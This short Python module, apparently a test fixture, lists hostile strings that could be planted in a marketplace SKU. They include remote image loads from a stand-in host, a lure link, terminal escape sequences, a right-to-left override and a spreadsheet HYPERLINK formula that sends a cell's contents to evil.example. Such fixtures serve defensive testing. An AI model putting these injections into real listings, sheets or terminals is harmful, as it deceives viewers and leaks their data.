"""What a marketplace, or who lists goods there, could put into a SKU to harm who looks at it."""

OUTSIDE = "evil.example"
"""A host that nothing may be loaded from."""
IMAGE = f"![x](https://{OUTSIDE}/x.png)"
HTML = f"<img src=https://{OUTSIDE}/y.png>"
LINK = f"[free phones](https://{OUTSIDE}/)"
MARKUP = "[red]A[/red] :smile: [/not opened]"
TERMINAL = "\x1b]0;evil\x07\x1b[2J\x9b2J"
DIRECTION = "PH\u202eENO\u202c"
FORMULA = f'=HYPERLINK("https://{OUTSIDE}/?"&A1)'
SKUS = (IMAGE, HTML, LINK, MARKUP, TERMINAL, DIRECTION, FORMULA)
